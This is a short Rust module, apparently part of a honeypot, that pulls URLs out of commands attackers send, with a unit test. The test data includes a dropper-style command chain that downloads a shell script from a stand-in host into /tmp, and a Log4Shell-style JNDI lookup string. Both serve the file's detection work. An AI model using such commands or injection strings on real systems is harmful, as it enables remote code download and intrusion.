//! Places that visitors name, found in any text they send: also in commands that are not emulated.

/// Schemes worth writing down.
const SCHEMES: [&str; 5] = ["http://", "https://", "ftp://", "tftp://", "ldap://"];
/// Longest address kept.
const LENGTH: usize = 2_048;

/// Every address in a text, in order.
pub fn find(text: &str) -> Vec<String> {
    let lower = text.to_ascii_lowercase();
    let mut found: Vec<(usize, String)> = Vec::new();
    for scheme in SCHEMES {
        for (at, _) in lower.match_indices(scheme) {
            // `tftp://` also ends in `ftp://`.
            if lower[..at].ends_with(|c: char| c.is_ascii_alphanumeric()) {
                continue;
            }
            let end = text[at..].find(|c: char| {
                c.is_whitespace() || "\"'`;|<>(){}&$\\".contains(c) && !(c == '&' && text[at..].contains('?'))
            });
            let url: String = text[at..end.map_or(text.len(), |end| at + end)].chars().take(LENGTH).collect();
            if url.len() > scheme.len() {
                found.push((at, url));
            }
        }
    }
    found.sort();
    found.into_iter().map(|(_, url)| url).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn in_any_command() {
        let text = "cd /tmp; wget http://192.0.2.1/a.sh;curl -O 'HTTPS://x.example/b?c=1&d=2' || python -c \"get('ftp://h/f')\"";
        assert_eq!(find(text), ["http://192.0.2.1/a.sh", "HTTPS://x.example/b?c=1&d=2", "ftp://h/f"]);
        assert_eq!(find("tftp://h/x http://"), ["tftp://h/x"]);
        assert_eq!(find("${jndi:ldap://192.0.2.1:1389/a}"), ["ldap://192.0.2.1:1389/a"]);
    }
}
